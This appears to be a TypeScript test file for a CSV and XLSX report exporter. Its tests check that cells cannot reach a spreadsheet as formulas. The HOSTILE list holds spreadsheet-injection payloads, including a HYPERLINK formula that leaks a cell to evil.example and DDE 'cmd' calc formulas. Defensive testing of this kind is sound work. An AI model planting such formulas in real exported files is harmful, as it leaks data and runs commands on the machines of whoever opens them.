import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { toCsv, toXlsx, type Table } from './table';

/** What people type into titles, names and result forms, and what a spreadsheet would run as a formula. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1;"Отчёт")',
  "=cmd|' /C calc'!A0",
  '+7 (495) 123-45-67',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const table = (cells: string[]): Table => ({
  title: 'Отчёт',
  sheet: 'Лист',
  columns: [
    { header: 'Название', width: 30 },
    { header: 'Ответственный', width: 20 },
    { header: 'Дата', width: 12 },
    { header: '№', width: 4 },
  ],
  rows: cells.map((text, i) => [text, `Иванова ${text}`, { date: '2026-11-03' }, i + 1]),
});

const readCsv = (csv: string): string[][] =>
  parse(csv.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: false }) as string[][];

describe('CSV reports: no cell reaches a spreadsheet as a formula (OWASP CSV injection)', () => {
  it('prefixes every text cell that starts with =, +, -, @, a tab or a carriage return with an apostrophe', () => {
    const rows = readCsv(toCsv(table(HOSTILE)));
    expect(rows[0]).toEqual(['Название', 'Ответственный', 'Дата', '№']);
    const titles = rows.slice(1).map((r) => r[0]);
    expect(titles).toEqual(HOSTILE.map((text) => `'${text}`));
    // A cell that does not start with a trigger is left as typed, even when a formula follows inside it.
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((text) => `Иванова ${text}`));
    expect(rows[1].slice(2)).toEqual(['03.11.2026', '1']);
  });

  it('leaves ordinary Russian text, dates and numbers exactly as before', () => {
    const csv = toCsv(table(['ВПР по математике, 4 класс', 'Анализ «качества»; итоги']));
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe(
      'ВПР по математике, 4 класс;Иванова ВПР по математике, 4 класс;03.11.2026;1',
    );
    expect(readCsv(csv)[2]).toEqual([
      'Анализ «качества»; итоги',
      'Иванова Анализ «качества»; итоги',
      '03.11.2026',
      '2',
    ]);
  });

  it('keeps a multi-line cell in one field', () => {
    const rows = readCsv(toCsv(table(['Первая строка\nвторая строка'])));
    expect(rows[1][0]).toBe('Первая строка\nвторая строка');
  });
});

describe('XLSX reports: the same texts stay plain strings', () => {
  it('stores every hostile text as a string cell with exactly the typed value, never a formula', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(new Uint8Array(await toXlsx(table(HOSTILE))).buffer);
    const sheet = book.getWorksheet('Лист')!;
    HOSTILE.forEach((text, i) => {
      const cell = sheet.getRow(i + 3).getCell(1);
      expect({ type: cell.type, value: cell.value, formula: cell.formula }).toEqual({
        type: ExcelJS.ValueType.String,
        // XML turns a bare carriage return into a line feed; what matters is that the text stays text.
        value: text.replace(/\r/g, '\n'),
        formula: undefined,
      });
    });
  });
});
